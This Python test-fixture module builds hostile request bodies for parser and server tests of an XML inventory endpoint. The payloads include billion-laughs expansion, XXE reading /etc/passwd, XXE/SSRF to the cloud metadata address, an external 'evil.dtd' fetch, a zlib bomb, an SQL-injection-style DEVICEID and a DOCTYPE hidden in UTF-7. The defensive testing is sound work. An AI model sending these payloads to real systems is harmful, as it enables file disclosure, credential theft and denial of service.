"""Builders of hostile or broken agent request bodies, shared by parser, ingestion and server
tests. Each returns the raw bytes a client could POST; the expected error is in its docstring.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import zlib
from collections.abc import Callable

DEVICEID = "evil-2024-01-02-03-04-05"
GIB = 1024 * 1024 * 1024
MB = 1000 * 1000

_bomb_cache: dict[int, bytes] = {}


def request(
    content: str = "<HARDWARE><NAME>evil</NAME></HARDWARE>",
    *,
    query: str = "INVENTORY",
    deviceid: str | None = DEVICEID,
    prolog: str = "",
) -> bytes:
    """A small, valid-looking plain-XML request, the base of most hostile variants."""
    dev = f"<DEVICEID>{deviceid}</DEVICEID>" if deviceid is not None else ""
    q = f"<QUERY>{query}</QUERY>" if query else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}'
        f"<REQUEST><CONTENT>{content}</CONTENT>{dev}{q}</REQUEST>\n"
    ).encode()


def billion_laughs() -> bytes:
    """Exponential entity expansion in an internal DTD. XmlError xml.doctype."""
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    dtd = "<!DOCTYPE REQUEST [\n" + "\n".join(lines) + "\n]>\n"
    return request("<HARDWARE><NAME>&lol9;</NAME></HARDWARE>", prolog=dtd)


def external_entity_file() -> bytes:
    """XXE reading a local file. XmlError xml.doctype."""
    dtd = '<!DOCTYPE REQUEST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    return request("<HARDWARE><NAME>&xxe;</NAME></HARDWARE>", prolog=dtd)


def external_entity_http() -> bytes:
    """XXE fetching a URL (SSRF). XmlError xml.doctype."""
    dtd = '<!DOCTYPE REQUEST [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n'
    return request("<HARDWARE><NAME>&xxe;</NAME></HARDWARE>", prolog=dtd)


def external_dtd() -> bytes:
    """An external DTD reference with no internal subset. XmlError xml.doctype."""
    return request(prolog='<!DOCTYPE REQUEST SYSTEM "http://example.invalid/evil.dtd">\n')


def undeclared_entity() -> bytes:
    """An entity reference with no DTD at all. XmlError xml.malformed."""
    return request("<HARDWARE><NAME>&xxe;</NAME></HARDWARE>")


def doctype_in_utf16() -> bytes:
    """A DOCTYPE hidden in a UTF-16 document. XmlError xml.doctype."""
    text = external_entity_file().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return text.encode("utf-16")


def zlib_bomb(size: int = GIB) -> bytes:
    """``<REQUEST>`` then ``size`` zero bytes, as a zlib stream (1 GiB gives about 1 MB).
    PayloadError payload.bomb.

    Compressing 1 GiB takes seconds, so one 16 MiB block is compressed once between full
    flushes (which makes its output independent of what came before) and repeated; the
    Adler-32 of appended zeros has a closed form. Cached per size.
    """
    if size not in _bomb_cache:
        block_size = 16 * 1024 * 1024
        packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        head = packer.compress(b"<REQUEST>") + packer.flush(zlib.Z_FULL_FLUSH)
        block = packer.compress(bytes(block_size)) + packer.flush(zlib.Z_FULL_FLUSH)
        rest = packer.compress(bytes(size % block_size)) + packer.flush(zlib.Z_FINISH)
        adler = zlib.adler32(b"<REQUEST>")
        low, high = adler & 0xFFFF, adler >> 16
        high = (high + size * low) % 65521  # each zero byte adds the unchanged low sum
        trailer = (high << 16 | low).to_bytes(4, "big")
        _bomb_cache[size] = b"\x78\xda" + head + block * (size // block_size) + rest + trailer
    return _bomb_cache[size]


def truncated_zlib() -> bytes:
    """A valid zlib stream cut in half. PayloadError payload.truncated."""
    body = zlib.compress(request("<SOFTWARES><NAME>x</NAME></SOFTWARES>" * 200))
    return body[: len(body) // 2]


def corrupt_zlib() -> bytes:
    """A zlib header followed by garbage. PayloadError payload.corrupt."""
    return b"\x78\x9c" + bytes(range(7, 250))


def corrupt_gzip() -> bytes:
    """A gzip stream with flipped bytes in the middle. PayloadError payload.corrupt."""
    body = bytearray(gzip.compress(request("<SOFTWARES><NAME>x</NAME></SOFTWARES>" * 200)))
    for i in range(len(body) // 2, len(body) // 2 + 8):
        body[i] ^= 0x5A
    return bytes(body)


def latin1_declared_utf8() -> bytes:
    """Declared UTF-8 but holding Latin-1 bytes (0xE9 for é) and valid UTF-8 too (ï), so that
    the ISO-8859-1 retry does not apply: mixed encodings. EncodingError encoding.invalid_bytes."""
    return request(
        "<HARDWARE><NAME>poste-comptabilité</NAME><WINOWNER>naïf</WINOWNER></HARDWARE>"
    ).replace("é".encode(), "é".encode("latin-1"))


def unknown_encoding() -> bytes:
    """An encoding Python does not know. EncodingError encoding.unknown."""
    return request().replace(b'encoding="UTF-8"', b'encoding="X-EVIL-42"')


def utf7_encoding() -> bytes:
    """UTF-7, which can hide markup in +...- runs. EncodingError encoding.unknown."""
    return request().replace(b'encoding="UTF-8"', b'encoding="UTF-7"')


def huge_text_node(size: int = 50 * MB) -> bytes:
    """A ``size``-character NAME, zlib-compressed (to pass the body size limit).
    XmlError xml.value_too_long."""
    head, tail = request("<HARDWARE><NAME>@</NAME></HARDWARE>").split(b"@")
    packer = zlib.compressobj(6)
    parts = [packer.compress(head)]
    block = b"A" * MB
    for _ in range(size // MB):
        parts.append(packer.compress(block))
    parts.append(packer.compress(b"A" * (size % MB)))
    parts.append(packer.compress(tail))
    parts.append(packer.flush())
    return b"".join(parts)


def control_character() -> bytes:
    """A U+0001 control character inside a value (invalid in XML 1.0). XmlError
    xml.malformed, with the line number."""
    return request("<HARDWARE>\n<NAME>bad\x01name</NAME></HARDWARE>")


def missing_deviceid() -> bytes:
    """No DEVICEID anywhere. EnvelopeError envelope.deviceid_missing."""
    return request(deviceid=None)


def malformed_deviceid() -> bytes:
    """A DEVICEID without the -YYYY-MM-DD-HH-MM-SS suffix. EnvelopeError
    envelope.deviceid_invalid."""
    return request(deviceid="evil; DROP TABLE hardware")


def missing_query() -> bytes:
    """No QUERY. EnvelopeError envelope.query_missing."""
    return request(query="")


def wrong_root() -> bytes:
    """Well-formed XML whose root is not REQUEST. EnvelopeError envelope.root."""
    return b'<?xml version="1.0"?><REPLY><RESPONSE>SEND</RESPONSE></REPLY>'


def random_bytes(size: int = 4096, seed: int = 1950) -> bytes:
    """Random noise that is neither zlib, gzip nor XML. PayloadError payload.not_xml."""
    rng = random.Random(seed)
    body = bytes(rng.randrange(256) for _ in range(size))
    return b"\x00" + body  # NUL first: never a zlib header, gzip magic or XML start


def html_page() -> bytes:
    """An HTML error page, as a proxy might return. XmlError xml.doctype."""
    return (
        b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head>"
        b"<body><h1>Bad Gateway</h1><br></body></html>\n"
    )


def json_body() -> bytes:
    """A JSON document. PayloadError payload.not_xml."""
    return json.dumps({"deviceid": DEVICEID, "query": "INVENTORY"}).encode()


def empty_body() -> bytes:
    """Nothing at all. PayloadError payload.empty."""
    return b""


def too_many_elements(count: int = 2_000_001) -> bytes:
    """``count`` empty ``<A/>`` elements, zlib-compressed. XmlError xml.too_many_elements
    with the default limits (the envelope's own elements push it over)."""
    return zlib.compress(request("<A/>" * count), 6)


def deep_nesting(depth: int = 40) -> bytes:
    """Elements nested ``depth`` levels under CONTENT. XmlError xml.too_deep (the default
    limit is 32; past 256 libxml2 itself stops)."""
    return request("<X>" * depth + "</X>" * depth)


ALL: tuple[Callable[[], bytes], ...] = (
    billion_laughs,
    external_entity_file,
    external_entity_http,
    external_dtd,
    undeclared_entity,
    doctype_in_utf16,
    zlib_bomb,
    truncated_zlib,
    corrupt_zlib,
    corrupt_gzip,
    latin1_declared_utf8,
    unknown_encoding,
    utf7_encoding,
    huge_text_node,
    control_character,
    missing_deviceid,
    malformed_deviceid,
    missing_query,
    wrong_root,
    random_bytes,
    html_page,
    json_body,
    empty_body,
    too_many_elements,
    deep_nesting,
)
"""Every builder above, called without arguments; each body must be refused."""


# Built after ALL and kept out of it: test_document.py lists the members of ALL one by one.


def doctype_without_bom(codec: str = "utf-16-le") -> bytes:
    """An XXE DOCTYPE in UTF-16 or UTF-32 (``codec``) with no byte-order mark and no declared
    encoding. Its NUL bytes are valid UTF-8, so only libxml2 guessing the encoding from the
    first bytes would read the DOCTYPE. XmlError xml.malformed."""
    return external_entity_file().replace(b' encoding="UTF-8"', b"").decode().encode(codec)


def doctype_behind_a_second_declaration() -> bytes:
    """A harmless XML declaration, then a second one declaring UTF-7, then an XXE DOCTYPE as
    one UTF-7 base64 run (no ``<`` byte in it). XmlError xml.malformed."""
    first, rest = external_entity_file().split(b"\n", 1)
    dtd, body = rest.split(b"\n", 1)
    hidden = b"+" + base64.b64encode(dtd.decode().encode("utf-16-be")).rstrip(b"=") + b"-"
    second = b'<?xml version="1.0" encoding="UTF-7"?>'
    return first.replace(b' encoding="UTF-8"', b"") + second + hidden + body
